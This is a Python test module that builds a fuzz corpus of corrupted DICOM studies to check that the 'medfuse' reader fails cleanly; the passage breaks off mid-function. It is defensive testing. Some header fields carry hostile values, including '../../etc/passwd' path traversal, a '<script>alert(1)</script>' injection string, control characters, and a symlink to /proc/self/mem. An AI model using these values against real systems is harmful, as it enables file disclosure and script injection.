"""The bad-input corpus: several hundred broken, odd and hostile inputs, generated from the
sample cases (nothing binary is committed).

    from tests.robustness.corpus import build_corpus, run_case, judge
    cases = build_corpus(tmp_path)                  # DICOM studies, reports, workflows
    for case in cases:
        outcome = run_case(case)
        problems = judge(case, outcome)             # [] when the outcome is acceptable

or ``python tests/robustness/corpus.py [FOLDER]`` to build it and print the outcome table.

Each :class:`Case` says which outcomes are acceptable:

* ``error`` — a :class:`~medfuse.errors.MedfuseError` subclass whose ``path`` lies inside the
  case (and, when the case has a culprit file, whose message names that file) and whose
  ``reason`` is not empty;
* ``volume`` — a volume that the oracle proves correct: every slice is a slice of the reference
  volume (the unbroken series read the same way), voxel for voxel, at the position the affine
  gives it; fewer slices than the reference only with a recorded warning (or for a case that
  removes end slices on purpose);
* ``warning`` — such a volume *and* a recorded warning containing ``case.warns``;
* ``report`` / ``valid`` — a parsed report (no NUL / control characters left, the expected
  warning recorded) / a valid workflow.

Anything else — another exception type, a wrong volume, a hang (the long fuzz harness checks
that) — is a violation.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import struct
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pydicom
from pydicom.dataelem import DataElement

from medfuse.io.fastheader import _LONG_VRS  # VRs with a 4-byte length (explicit VR)

REPO = Path(__file__).resolve().parents[2]
SAMPLES = REPO / "sample_cases"

#: base series built from the sample cases: name -> (sample case, first slice, number of slices)
BASES: dict[str, tuple[str, int, int]] = {
    "ct_explicit": ("chest_ct_0001", 20, 8),  # Explicit VR LE, unsigned + intercept (fast header)
    "ct_rle": ("chest_ct_0002", 20, 8),  # RLE Lossless, signed
    "ct_jpegls": ("chest_ct_0003", 16, 8),  # JPEG-LS Lossless
    "mr_sag": ("mr_sag_0001", 14, 8),  # sagittal MR, Explicit VR LE
    "ct_implicit": ("chest_ct_0001", 20, 8),  # transcoded to Implicit VR LE (pydicom header path)
}
MIDDLE = 3  # index (in slice order) of the file a single-file corruption hits
OUTCOMES = ("error", "volume", "warning", "report", "valid", "skipped")


@dataclass
class Case:
    name: str
    kind: str  # "dicom" | "report" | "workflow"
    source: Any  # Path (dicom / report / workflow file) or bytes / mapping
    allowed: frozenset[str]
    base: str | None = None  # reference volume for the oracle
    culprit: Path | None = None  # the broken file: errors must name it
    warns: str | None = None  # text a recorded warning must contain ("warning" outcome)
    subvolume: bool = False  # fewer slices than the reference are fine without a warning
    policy: Any = None
    oracle: Callable[[Any, Any], list[str]] | None = None  # custom volume check
    skip: str | None = None
    root: Path | None = None  # where error paths must lie


@dataclass
class Outcome:
    kind: str  # one of OUTCOMES, or "crash"
    detail: str
    value: Any = None
    study: Any = None


# -- helpers for writing broken files --------------------------------------------------------------
@contextlib.contextmanager
def lenient() -> Iterator[None]:
    """pydicom writes (and reads back) deliberately invalid values."""
    cfg = pydicom.config.settings
    saved = cfg.writing_validation_mode, cfg.reading_validation_mode
    cfg.writing_validation_mode = cfg.reading_validation_mode = pydicom.config.IGNORE
    try:
        yield
    finally:
        cfg.writing_validation_mode, cfg.reading_validation_mode = saved


def _edit(path: Path, fn: Callable[[pydicom.Dataset], None]) -> None:
    ds = pydicom.dcmread(path)
    fn(ds)
    ds.save_as(path, enforce_file_format=False)


def _delete(*keywords: str) -> Callable[[pydicom.Dataset], None]:
    def fn(ds: pydicom.Dataset) -> None:
        for kw in keywords:
            if kw in ds:
                delattr(ds, kw)
            elif kw in ds.file_meta:
                delattr(ds.file_meta, kw)

    return fn


def _set(keyword: str, value: Any, vr: str | None = None) -> Callable[[pydicom.Dataset], None]:
    """Set ``keyword``; with ``vr`` the element is written with that (wrong) VR."""

    def fn(ds: pydicom.Dataset) -> None:
        tag = pydicom.datadict.tag_for_keyword(keyword)
        if vr is not None:
            ds[tag] = DataElement(tag, vr, value)
        elif tag is not None and tag >> 16 == 2:
            setattr(ds.file_meta, keyword, value)
        else:
            setattr(ds, keyword, value)

    return fn


def _raw_value(path: Path, keyword: str, raw: bytes, vr: str | None = None) -> None:
    """Replace the value bytes of ``keyword`` with ``raw`` (any bytes; the length is fixed up)
    and, with ``vr``, its VR, in an explicit-VR file: for values pydicom refuses to write (text
    in a DS, a UN holding anything, ...)."""
    data = path.read_bytes()
    tag = pydicom.datadict.tag_for_keyword(keyword)
    needle = struct.pack("<HH", tag >> 16, tag & 0xFFFF)
    at = data.find(needle, 132)
    if at < 0:
        raise KeyError(keyword)
    old_vr = data[at + 4 : at + 6]
    assert old_vr.isalpha(), "explicit VR files only"
    if old_vr in _LONG_VRS:
        (length,) = struct.unpack_from("<I", data, at + 8)
        end = at + 12 + length
    else:
        (length,) = struct.unpack_from("<H", data, at + 6)
        end = at + 8 + length
    new_vr = vr.encode() if vr else old_vr
    if len(raw) % 2:
        raw += b" "
    if new_vr in _LONG_VRS:
        head = needle + new_vr + b"\0\0" + struct.pack("<I", len(raw))
    else:
        head = needle + new_vr + struct.pack("<H", len(raw))
    path.write_bytes(data[:at] + head + raw + data[end:])


def _ordered(folder: Path) -> list[Path]:
    """The files of a base series in slice order (recorded when the base was made)."""
    return [folder / n for n in json.loads((folder.parent / f"{folder.name}.order").read_text())]


# -- the base series and their reference volumes ---------------------------------------------------
def make_bases(root: Path) -> dict[str, Path]:
    """One folder per base series (a run of consecutive slices of a sample case)."""
    out = {}
    for name, (case, first, n) in BASES.items():
        gt = json.loads((SAMPLES / case / "ground_truth.json").read_text())["dicom"]
        names = gt["files"][first : first + n]
        folder = root / "bases" / name
        folder.mkdir(parents=True, exist_ok=True)
        for fname in names:
            src = SAMPLES / case / "dicom" / fname
            if name == "ct_implicit":
                ds = pydicom.dcmread(src)
                ds.file_meta.TransferSyntaxUID = pydicom.uid.ImplicitVRLittleEndian
                ds.save_as(folder / fname, implicit_vr=True, little_endian=True)
            else:
                shutil.copyfile(src, folder / fname)
        (folder.parent / f"{name}.order").write_text(json.dumps(names))
        out[name] = folder
    return out


def reference_volumes(bases: dict[str, Path]) -> dict[str, Any]:
    import medfuse

    return {name: medfuse.read_study(folder).volume for name, folder in bases.items()}


class _Builder:
    def __init__(self, root: Path, bases: dict[str, Path]):
        self.root = root
        self.bases = bases
        self.cases: list[Case] = []
        self.names: Counter[str] = Counter()

    def folder(self, name: str, base: str | None) -> Path:
        self.names[name] += 1
        assert self.names[name] == 1, f"duplicate case name {name}"
        folder = self.root / "dicom" / name
        if base is None:
            folder.mkdir(parents=True)
        else:
            shutil.copytree(self.bases[base], folder)
            shutil.copyfile(
                self.bases[base].parent / f"{base}.order", folder.parent / f"{name}.order"
            )
        return folder

    def add(self, name: str, source: Any, allowed: str, **kw: Any) -> Case:
        kind = kw.pop("kind", "dicom")
        root = kw.pop("root", None)
        if root is None and isinstance(source, Path):
            root = source if source.is_dir() else source.parent
        case = Case(name, kind, source, frozenset(allowed.split("|")), root=root, **kw)
        self.cases.append(case)
        return case

    def one_file(
        self,
        name: str,
        base: str,
        mutate: Callable[[Path], None],
        allowed: str = "error",
        *,
        index: int = MIDDLE,
        **kw: Any,
    ) -> Case:
        """A copy of ``base`` with one file (``index`` in slice order) broken by ``mutate``."""
        folder = self.folder(name, base)
        victim = _ordered(folder)[index]
        with lenient():
            mutate(victim)
        return self.add(name, folder, allowed, base=base, culprit=victim, **kw)

    def all_files(
        self, name: str, base: str, mutate: Callable[[Path], None], allowed: str = "error", **kw
    ) -> Case:
        folder = self.folder(name, base)
        with lenient():
            for f in _ordered(folder):
                mutate(f)
        return self.add(name, folder, allowed, base=base, **kw)


def _edit_with(fn: Callable[[pydicom.Dataset], None]) -> Callable[[Path], None]:
    return lambda p: _edit(p, fn)


def _truncate_at(offset: int) -> Callable[[Path], None]:
    def fn(p: Path) -> None:
        p.write_bytes(p.read_bytes()[:offset])

    return fn


def _truncation_offsets(path: Path, n_header: int, n_pixels: int) -> list[int]:
    """Offsets spread over the preamble, the file meta, the data set (element boundaries and
    mid-element positions) and the pixel data."""
    data = path.read_bytes()
    size = len(data)
    fixed = [0, 1, 64, 127, 128, 131, 132, 133, 136, 140]
    from medfuse.io.fastheader import read_fast_header

    hdr = read_fast_header(path)
    pix = hdr.pixel_offset if hdr is not None and hdr.pixel_offset else None
    if pix is None:  # compressed or implicit: find the pixel data tag
        at = data.rfind(b"\xe0\x7f\x10\x00")
        pix = at + 8 if at > 0 else size // 2
    header = sorted({int(x) for x in np.linspace(141, pix - 1, n_header)})
    pixels = sorted({int(x) for x in np.linspace(pix, size - 1, n_pixels)} | {size - 1})
    return sorted({o for o in fixed + header + pixels if 0 <= o < size})


# -- DICOM cases ------------------------------------------------------------------------------------
GEOMETRY_TAGS = (
    "ImagePositionPatient",
    "ImageOrientationPatient",
    "PixelSpacing",
    "Rows",
    "Columns",
    "BitsAllocated",
    "BitsStored",
    "HighBit",
    "PixelRepresentation",
    "SamplesPerPixel",
    "PhotometricInterpretation",
    "RescaleSlope",
    "RescaleIntercept",
    "SeriesInstanceUID",
    "StudyInstanceUID",
    "SOPInstanceUID",
    "SOPClassUID",
    "Modality",
    "FrameOfReferenceUID",
    "PixelData",
    "SliceThickness",
    "SpacingBetweenSlices",
    "ImageType",
    "InstanceNumber",
    "TransferSyntaxUID",
    "MediaStorageSOPClassUID",
)
#: deleting these from one file leaves a usable series (the reader does not need them)
HARMLESS_TO_DELETE = {
    "SliceThickness",
    "SpacingBetweenSlices",
    "ImageType",
    "InstanceNumber",
    "StudyInstanceUID",
    "FrameOfReferenceUID",
    "HighBit",
    "MediaStorageSOPClassUID",
    "PhotometricInterpretation",
    "Modality",
    "SOPInstanceUID",
}


def _dicom_cases(b: _Builder, refs: dict[str, Any]) -> None:
    from medfuse.io.policy import ReadPolicy

    # 1. truncation at many offsets, in a middle slice and in an end slice
    plan = {"ct_explicit": (34, 8), "ct_rle": (10, 6), "ct_jpegls": (8, 5), "ct_implicit": (8, 4)}
    plan["mr_sag"] = (6, 3)
    for base, (nh, npx) in plan.items():
        victim = _ordered(b.bases[base])[MIDDLE]
        for off in _truncation_offsets(victim, nh, npx):
            b.one_file(f"truncate_{base}_at_{off}", base, _truncate_at(off))
    end = _ordered(b.bases["ct_explicit"])[0]
    for off in _truncation_offsets(end, 6, 3):
        b.one_file(
            f"truncate_end_slice_at_{off}", "ct_explicit", _truncate_at(off), "error|warning",
            index=0, warns="left out",
        )  # fmt: skip
    b.one_file("append_garbage", "ct_explicit", lambda p: p.write_bytes(p.read_bytes() + b"\1" * 99),
               "volume|warning|error")  # fmt: skip

    # 2. each geometry / pixel tag deleted from one file, and (some) from every file
    for tag in GEOMETRY_TAGS:
        for base in (
            ("ct_explicit", "ct_implicit") if tag in GEOMETRY_TAGS[:6] else ("ct_explicit",)
        ):
            allowed = "volume|warning|error" if tag in HARMLESS_TO_DELETE else "error"
            b.one_file(f"delete_{tag}_{base}", base, _edit_with(_delete(tag)), allowed)
    for tag in ("ImagePositionPatient", "ImageOrientationPatient", "PixelSpacing", "Rows",
                "BitsAllocated", "SeriesInstanceUID", "SOPClassUID", "PixelData",
                "TransferSyntaxUID"):  # fmt: skip
        b.all_files(f"delete_{tag}_everywhere", "ct_explicit", _edit_with(_delete(tag)))
    b.all_files(
        "delete_rescale_everywhere", "ct_explicit",
        _edit_with(_delete("RescaleSlope", "RescaleIntercept")), "warning|error",
        warns="RescaleIntercept", oracle=_offset_oracle(1024.0),
    )  # fmt: skip
    b.all_files("delete_slope_everywhere", "ct_explicit", _edit_with(_delete("RescaleSlope")),
                "volume|warning|error")  # fmt: skip
    b.all_files(
        "delete_sop_uid_everywhere", "ct_explicit", _edit_with(_delete("SOPInstanceUID")),
        "volume|warning|error",
    )  # fmt: skip
    b.one_file("policy_skip_missing_position", "ct_explicit",
               _edit_with(_delete("ImagePositionPatient")), "error|warning", index=0,
               warns="left out", policy=ReadPolicy(on_bad_file="skip"))  # fmt: skip

    # 3. wrong VR or absurd value in one file
    absurd: list[tuple[str, Any, str | None]] = [
        ("ImagePositionPatient", b"a\\b\\c", None),
        ("ImagePositionPatient", b"1\\2", None),
        ("ImagePositionPatient", b"1\\2\\3\\4", None),
        ("ImagePositionPatient", b"nan\\0\\0", None),
        ("ImagePositionPatient", b"inf\\0\\0", None),
        ("ImagePositionPatient", b"1e308\\1e308\\1e308", None),
        ("ImagePositionPatient", b"", None),
        ("ImageOrientationPatient", b"0\\0\\0\\0\\0\\0", None),
        ("ImageOrientationPatient", b"1\\0\\0\\1\\0\\0", None),
        ("ImageOrientationPatient", b"2\\0\\0\\0\\2\\0", None),
        ("ImageOrientationPatient", b"1\\0\\0", None),
        ("ImageOrientationPatient", b"nan\\0\\0\\0\\1\\0", None),
        ("ImageOrientationPatient", b"x\\y\\z\\1\\2\\3", None),
        ("PixelSpacing", b"0\\0", None),
        ("PixelSpacing", b"-3.5\\3.5", None),
        ("PixelSpacing", b"nan\\3.5", None),
        ("PixelSpacing", b"inf\\inf", None),
        ("PixelSpacing", b"3.5", None),
        ("PixelSpacing", b"1e-300\\1e-300", None),
        ("PixelSpacing", b"1e300\\1e300", None),
        ("PixelSpacing", b"abc\\def", None),
        ("PixelSpacing", b"4.5\\4.5", None),  # plausible but different: splits the series
        ("RescaleSlope", b"0", None),
        ("RescaleSlope", b"abc", None),
        ("RescaleSlope", b"nan", None),
        ("RescaleSlope", b"inf", None),
        ("RescaleSlope", b"1e300", None),
        ("RescaleSlope", b"1e38", None),
        ("RescaleIntercept", b"abc", None),
        ("RescaleIntercept", b"-inf", None),
        ("RescaleIntercept", b"1e300", None),
        ("RescaleIntercept", b"1e39", None),
        ("SeriesInstanceUID", b"", None),
        ("SeriesInstanceUID", b"1.2.3." + b"9" * 200, None),
        ("SeriesInstanceUID", b"../../etc/passwd", None),
        ("SeriesInstanceUID", b"1.2.3.4.5.6.7.8", None),  # another series: splits it
        ("SliceThickness", b"-5", None),
        ("SliceThickness", b"abc", None),
        ("SpacingBetweenSlices", b"nan", None),
        ("InstanceNumber", b"abc", None),
        ("InstanceNumber", b"99999999999999999999", None),
        ("PhotometricInterpretation", b"RGB", None),
        ("PhotometricInterpretation", b"YBR_FULL_422", None),
        ("Modality", b"MR", None),
        ("Modality", b"", None),
        ("ImageType", b"ORIGINAL\\PRIMARY\\LOCALIZER", None),
        ("NumberOfFrames", b"0", "IS"),
        ("NumberOfFrames", b"-1", "IS"),
        ("NumberOfFrames", b"1000000000", "IS"),
        ("NumberOfFrames", b"abc", "IS"),
        ("ImagePositionPatient", b"\x00\x01", "UN"),
        ("ImagePositionPatient", b"-10\\20\\30", "UN"),
        ("PixelSpacing", b"\xff\xfe\xfd\xfc", "UN"),
        ("RescaleSlope", b"\x00" * 8, "UN"),
        ("Rows", b"\x00", "UN"),
    ]
    harmless = {"InstanceNumber", "SliceThickness", "SpacingBetweenSlices", "Modality"}
    for i, (tag, raw, vr) in enumerate(absurd):

        def mutate(p: Path, tag=tag, raw=raw, vr=vr) -> None:
            if tag == "NumberOfFrames":  # an element the file lacks: add it first
                _edit(p, _set(tag, "7", "IS"))
                vr = None
            _raw_value(p, tag, raw, vr)

        allowed = "volume|warning|error" if tag in harmless else "error"
        if tag == "ImageType":
            allowed = "error|warning"
        b.one_file(f"absurd_{i:02d}_{tag}", "ct_explicit", mutate, allowed)

    binary: list[tuple[str, Any, str | None]] = [
        ("Rows", 0, None),
        ("Rows", 1, None),
        ("Rows", 65535, None),
        ("Rows", 89, None),
        ("Columns", 0, None),
        ("Columns", 7, None),
        ("Columns", 65535, None),
        ("BitsAllocated", 0, None),
        ("BitsAllocated", 1, None),
        ("BitsAllocated", 12, None),
        ("BitsAllocated", 8, None),
        ("BitsAllocated", 32, None),
        ("BitsAllocated", 64, None),
        ("BitsStored", 0, None),
        ("BitsStored", 17, None),
        ("BitsStored", 64, None),
        ("PixelRepresentation", 2, None),
        ("PixelRepresentation", 255, None),
        ("SamplesPerPixel", 3, None),
        ("SamplesPerPixel", 0, None),
        ("HighBit", 99, None),
        ("Rows", "abc", "LO"),
        ("Columns", b"\x01\x02\x03\x04\x05", "OB"),
        ("BitsAllocated", "16", "LO"),
        ("PixelSpacing", 3, "US"),
        ("ImageOrientationPatient", [1.0, 0.0, 0.0, 0.0, 1.0, 0.0], "FD"),
        ("RescaleSlope", 1.0, "FD"),
        ("SeriesInstanceUID", b"\xff\xfe\x00\x01", "OB"),
        ("PixelData", b"", "OB"),
        ("PixelData", b"\0" * 100, "OW"),
        ("PixelData", b"\0" * 40000, "OW"),
        ("TransferSyntaxUID", "1.2.840.10008.1.2.2", None),  # says big endian, is not
        ("TransferSyntaxUID", "1.2.840.10008.1.2.4.50", None),  # says JPEG, is not
        ("TransferSyntaxUID", "1.2.840.10008.1.2.1.99", None),  # says deflate, is not
        ("TransferSyntaxUID", "1.2.3.4", None),
        ("SOPClassUID", "1.2.840.10008.5.1.4.1.1.88.33", None),  # an SR in the series
    ]
    for i, (tag, value, vr) in enumerate(binary):
        allowed = "volume|warning|error" if tag == "HighBit" else "error"
        if tag == "ImageOrientationPatient" or (tag, vr) == ("RescaleSlope", "FD"):
            allowed = "volume|warning|error"  # the right numbers in another (binary) VR
        mutate = _edit_with(_set(tag, value, vr))
        if tag == "TransferSyntaxUID":  # pydicom will not write a mismatching one

            def mutate(p: Path, value=value) -> None:
                _raw_value(p, "TransferSyntaxUID", value.encode() + b"\0")

        b.one_file(f"value_{i:02d}_{tag}", "ct_explicit", mutate, allowed)
    b.one_file("rows_in_compressed", "ct_rle", _edit_with(_set("Rows", 87)))
    b.one_file("bits_in_compressed", "ct_jpegls", _edit_with(_set("BitsAllocated", 8)))
    b.one_file("pixels_rle_garbage", "ct_rle", _rle_garbage)
    b.one_file("implicit_rows_zero", "ct_implicit", _edit_with(_set("Rows", 0)))
    b.one_file(
        "implicit_spacing_text", "ct_implicit", _edit_with(_set("PixelSpacing", "abc", "LO"))
    )
    b.one_file("deep_sequence_nesting", "ct_explicit", _deep_sequence(3000), "error|volume")
    b.one_file("huge_element_length", "ct_explicit", _huge_length)
    b.one_file("undefined_length_text", "ct_explicit", _undefined_length_text)

    # 4. whole-series problems
    nonuni = b.one_file("nonuniform_spacing", "ct_explicit", _shift(0, 0, 1.0))
    b.one_file("nonuniform_spacing_warn", "ct_explicit", _shift(0, 0, 1.0), "warning",
               warns="non-uniform", policy=ReadPolicy(on_nonuniform="warn"),
               oracle=_positions_oracle(1.01))  # fmt: skip
    nonuni.culprit = None  # the spacing of the series is wrong, not one file
    b.one_file("tiny_position_jitter", "ct_explicit", _shift(0.001, 0, 0.001), "volume|warning",
               oracle=_positions_oracle())  # fmt: skip
    dup = b.folder("duplicate_copy", "ct_explicit")
    shutil.copyfile(_ordered(dup)[2], dup / "copy_of_slice.dcm")
    b.add("duplicate_copy", dup, "warning", base="ct_explicit", warns="duplicate")
    for base in ("ct_explicit", "ct_rle", "ct_implicit"):
        f = b.folder(f"duplicate_position_{base}", base)
        with lenient():
            ds = pydicom.dcmread(_ordered(f)[4])
            ds.SOPInstanceUID = pydicom.uid.generate_uid()
            ds.save_as(f / "other_instance.dcm", enforce_file_format=False)
        b.add(f"duplicate_position_{base}", f, "error", base=base, culprit=f / "other_instance.dcm")
    for base in ("ct_explicit", "mr_sag"):
        f = b.folder(f"missing_middle_slice_{base}", base)
        _ordered(f)[MIDDLE].unlink()
        b.add(f"missing_middle_slice_{base}", f, "error", base=base)
        f = b.folder(f"missing_end_slices_{base}", base)
        for p in _ordered(f)[-2:]:
            p.unlink()
        b.add(f"missing_end_slices_{base}", f, "volume", base=base, subvolume=True)
    tilt = b.folder("gantry_tilt", "ct_explicit")
    with lenient():
        for k, p in enumerate(_ordered(tilt)):
            _edit(p, _tilt(k, 12.0))
    b.add("gantry_tilt", tilt, "warning", base="ct_explicit", warns="sheared",
          oracle=_positions_oracle())  # fmt: skip
    tilt_err = b.folder("gantry_tilt_refused", "ct_explicit")
    with lenient():
        for k, p in enumerate(_ordered(tilt_err)):
            _edit(p, _tilt(k, 12.0))
    b.add("gantry_tilt_refused", tilt_err, "error", base="ct_explicit",
          policy=ReadPolicy(on_shear="error"))  # fmt: skip
    curved = b.folder("tilt_not_linear", "ct_explicit")
    with lenient():
        for k, p in enumerate(_ordered(curved)):
            _edit(p, _tilt(k, 3.0 * k))
    b.add("tilt_not_linear", curved, "error", base="ct_explicit")
    mixed = b.folder("mixed_orientation", "ct_explicit")
    with lenient():
        _edit(_ordered(mixed)[MIDDLE], _set("ImageOrientationPatient", [0, 1, 0, 0, 0, -1]))
    b.add("mixed_orientation", mixed, "error", base="ct_explicit", culprit=_ordered(mixed)[MIDDLE])
    mixed_end = b.folder("mixed_orientation_half", "ct_explicit")
    with lenient():
        for p in _ordered(mixed_end)[:3]:
            _edit(p, _set("ImageOrientationPatient", [1, 0, 0, 0, 0, -1]))
    b.add("mixed_orientation_half", mixed_end, "warning", base="ct_explicit", warns="incompatible",
          subvolume=True)  # fmt: skip
    for n in (1, 2):
        f = b.folder(f"only_{n}_slice", "ct_explicit")
        for p in _ordered(f)[n:]:
            p.unlink()
        b.add(f"only_{n}_slice", f, "error", base="ct_explicit")
    b.add("single_file_given", _ordered(b.bases["ct_explicit"])[0], "error",
          root=b.bases["ct_explicit"])  # fmt: skip
    reversed_ = b.folder("instance_numbers_reversed", "ct_explicit")
    with lenient():
        for k, p in enumerate(_ordered(reversed_)):
            _edit(p, _set("InstanceNumber", 100 - k))
    b.add("instance_numbers_reversed", reversed_, "volume", base="ct_explicit")
    big = b.folder("declared_huge_dimensions", "ct_explicit")
    with lenient():
        for p in _ordered(big):
            _edit(p, lambda ds: (setattr(ds, "Rows", 60000), setattr(ds, "Columns", 60000)))
    b.add("declared_huge_dimensions", big, "error", base="ct_explicit")
    b.add("memory_cap_refuses", b.bases["ct_explicit"], "error", base="ct_explicit",
          policy=ReadPolicy(max_bytes=100_000))  # fmt: skip
    frames = b.folder("declared_huge_frame_count", "ct_explicit")
    with lenient():
        for p in _ordered(frames):
            _edit(p, lambda ds: (setattr(ds, "NumberOfFrames", 2**31 - 1),
                                 setattr(ds, "SpacingBetweenSlices", "5")))  # fmt: skip
    b.add("declared_huge_frame_count", frames, "error", base="ct_explicit")
    for label, uid in (("sr", "1.2.840.10008.5.1.4.1.1.88.33"), ("pr", "1.2.840.10008.5.1.4.1.1.11.1"),
                       ("seg", "1.2.840.10008.5.1.4.1.1.66.4"), ("ko", "1.2.840.10008.5.1.4.1.1.88.59"),
                       ("sc", "1.2.840.10008.5.1.4.1.1.7")):  # fmt: skip
        b.all_files(f"non_image_only_{label}", "ct_explicit", _edit_with(_set("SOPClassUID", uid)))
    d = b.folder("dicomdir_only", None)
    _write_dicomdir(d / "DICOMDIR")
    b.add("dicomdir_only", d, "error")
    d = b.folder("dicomdir_named_file", None)
    (d / "DICOMDIR").write_bytes(b"\0" * 128 + b"DICM" + b"\0" * 64)
    b.add("dicomdir_named_file", d, "error")
    d = b.folder("empty_folder", None)
    b.add("empty_folder", d, "error")
    d = b.folder("not_dicom_files", None)
    (d / "a.dcm").write_bytes(os.urandom(4096))
    (d / "b.txt").write_text("hello")
    (d / "c.dcm").write_bytes(b"")
    (d / "d.dcm").write_bytes(b"\0" * 128 + b"DICM")
    b.add("not_dicom_files", d, "error")
    if os.name == "posix":
        loop = b.folder("symlink_loop", "ct_explicit")
        (loop / "loop").symlink_to(loop, target_is_directory=True)
        (loop / "sub").mkdir()
        (loop / "sub" / "up").symlink_to(loop, target_is_directory=True)
        (loop / "self.dcm").symlink_to(loop / "self.dcm")
        (loop / "dangling.dcm").symlink_to(loop / "nowhere.dcm")
        b.add("symlink_loop", loop, "volume", base="ct_explicit")
        fifo = b.folder("fifo_among_files", "ct_explicit")
        os.mkfifo(fifo / "pipe.dcm")
        b.add("fifo_among_files", fifo, "volume", base="ct_explicit")
        unread = b.folder("unreadable_file_chmod", "ct_explicit")
        victim = _ordered(unread)[MIDDLE]
        victim.chmod(0)
        skip = None
        if os.access(victim, os.R_OK):
            skip = "running as root (or with CAP_DAC_OVERRIDE): chmod 000 does not block reads"
        b.add("unreadable_file_chmod", unread, "error", base="ct_explicit", culprit=victim,
              skip=skip)  # fmt: skip
        if _proc_mem_unreadable():
            eio = b.folder("unreadable_file_eio", "ct_explicit")
            victim = _ordered(eio)[MIDDLE]
            victim.unlink()
            victim.symlink_to("/proc/self/mem")  # a regular file whose read fails (EIO)
            b.add("unreadable_file_eio", eio, "error", base="ct_explicit", culprit=victim)
            eio_end = b.folder("unreadable_end_file_eio", "ct_explicit")
            victim = _ordered(eio_end)[0]
            victim.unlink()
            victim.symlink_to("/proc/self/mem")
            b.add("unreadable_end_file_eio", eio_end, "error|warning", base="ct_explicit",
                  culprit=victim, warns="left out")  # fmt: skip
    two = b.folder("two_series_one_broken", "ct_explicit")
    shutil.copytree(b.bases["mr_sag"], two / "mr")
    (two / "mr" / _ordered(b.bases["mr_sag"])[0].name).write_bytes(b"garbage")
    b.add("two_series_one_broken", two, "volume|warning", base="ct_explicit")
    # hostile strings in header values that end up in names and messages
    hostile = b.folder("hostile_header_strings", "ct_explicit")
    with lenient():
        for p in _ordered(hostile):
            _edit(p, _hostile_strings)
    b.add("hostile_header_strings", hostile, "volume", base="ct_explicit")


def _proc_mem_unreadable() -> bool:
    try:
        with open("/proc/self/mem", "rb") as fh:
            fh.read(16)
    except OSError:
        return os.path.isfile("/proc/self/mem")
    return False


def _shift(dx: float, dy: float, dz: float) -> Callable[[Path], None]:
    def fn(p: Path) -> None:
        def edit(ds: pydicom.Dataset) -> None:
            x, y, z = (float(v) for v in ds.ImagePositionPatient)
            ds.ImagePositionPatient = [f"{x + dx:.4f}", f"{y + dy:.4f}", f"{z + dz:.4f}"]

        _edit(p, edit)

    return fn


def _tilt(k: int, mm_per_slice: float) -> Callable[[pydicom.Dataset], None]:
    def edit(ds: pydicom.Dataset) -> None:
        x, y, z = (float(v) for v in ds.ImagePositionPatient)
        ds.ImagePositionPatient = [f"{x:.4f}", f"{y + k * mm_per_slice / 8:.4f}", f"{z:.4f}"]
        ds.GantryDetectorTilt = "12"

    return edit


def _hostile_strings(ds: pydicom.Dataset) -> None:
    ds.SeriesDescription = "../../../../tmp/evil<script>alert(1)</script>"
    ds.PatientName = "/etc/passwd^../..\\..\\x"
    ds.AccessionNumber = "../../x"
    ds.ProtocolName = "\u202e\u0000evil"


def _rle_garbage(p: Path) -> None:
    data = bytearray(p.read_bytes())
    at = data.rfind(b"\xe0\x7f\x10\x00")
    rng = np.random.default_rng(0)
    start = at + 40
    data[start:-8] = rng.integers(0, 256, len(data) - 8 - start, dtype=np.uint8).tobytes()
    p.write_bytes(bytes(data))


def _deep_sequence(depth: int) -> Callable[[Path], None]:
    """An undefined-length sequence nested ``depth`` levels deep, before the pixel data."""

    def fn(p: Path) -> None:
        data = p.read_bytes()
        at = data.rfind(b"\xe0\x7f\x10\x00")
        seq_open = struct.pack("<HH2sHI", 0x0009, 0x1010, b"SQ", 0, 0xFFFFFFFF)
        item_open = struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
        item_close = struct.pack("<HHI", 0xFFFE, 0xE00D, 0)
        seq_close = struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
        nested = (seq_open + item_open) * depth + (item_close + seq_close) * depth
        creator = struct.pack("<HH2sH", 0x0009, 0x0010, b"LO", 8) + b"MEDFUZZ "
        p.write_bytes(data[:at] + creator + nested + data[at:])

    return fn


def _huge_length(p: Path) -> None:
    """A text element in the data set that claims to be 4 GB long."""
    data = bytearray(p.read_bytes())
    tag = struct.pack("<HH", 0x0008, 0x103E)  # SeriesDescription (LO): switch it to a UT
    at = data.find(tag, 132)
    (length,) = struct.unpack_from("<H", data, at + 6)
    new = tag + b"UT\0\0" + struct.pack("<I", 0xFFFFFFF0)
    p.write_bytes(bytes(data[:at]) + new + bytes(data[at + 8 + length :]))


def _undefined_length_text(p: Path) -> None:
    data = bytearray(p.read_bytes())
    tag = struct.pack("<HH", 0x0008, 0x103E)
    at = data.find(tag, 132)
    (length,) = struct.unpack_from("<H", data, at + 6)
    new = tag + b"UT\0\0" + struct.pack("<I", 0xFFFFFFFF)
    p.write_bytes(bytes(data[:at]) + new + bytes(data[at + 8 + length :]))


def _write_dicomdir(path: Path) -> None:
    from pydicom.dataset import FileMetaDataset

    ds = pydicom.Dataset()
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.1.3.10"
    meta.MediaStorageSOPInstanceUID = pydicom.uid.generate_uid()
    meta.TransferSyntaxUID = pydicom.uid.ExplicitVRLittleEndian
    ds.file_meta = meta
    ds.FileSetID = "MEDFUSE"
    ds.DirectoryRecordSequence = []
    ds.save_as(path, enforce_file_format=True)


# -- volume oracles ----------------------------------------------------------------------------------
def check_volume(vol: Any, ref: Any, *, subvolume_ok: bool, warned: bool) -> list[str]:
    """[] when ``vol`` is ``ref`` or a correctly placed run of its slices (with a warning, or
    ``subvolume_ok``), else what is wrong."""
    problems = []
    if not np.all(np.isfinite(vol.array)):
        problems.append("non-finite voxel values")
    if not np.all(np.isfinite(vol.affine)) or abs(np.linalg.det(vol.affine[:3, :3])) < 1e-9:
        return [*problems, "affine not finite or singular"]
    if vol.array.shape[:2] != ref.array.shape[:2] or not np.allclose(
        vol.affine[:3, :3], ref.affine[:3, :3], atol=1e-4
    ):
        return [*problems, f"grid differs: {vol.array.shape} vs reference {ref.array.shape}"]
    inv = np.linalg.inv(ref.affine)
    n = vol.array.shape[2]
    for k in range(n):
        ijk = inv @ vol.affine @ np.array([0.0, 0.0, k, 1.0])
        kk = round(ijk[2])
        if not np.allclose(ijk[:3], [0, 0, kk], atol=1e-3) or not 0 <= kk < ref.array.shape[2]:
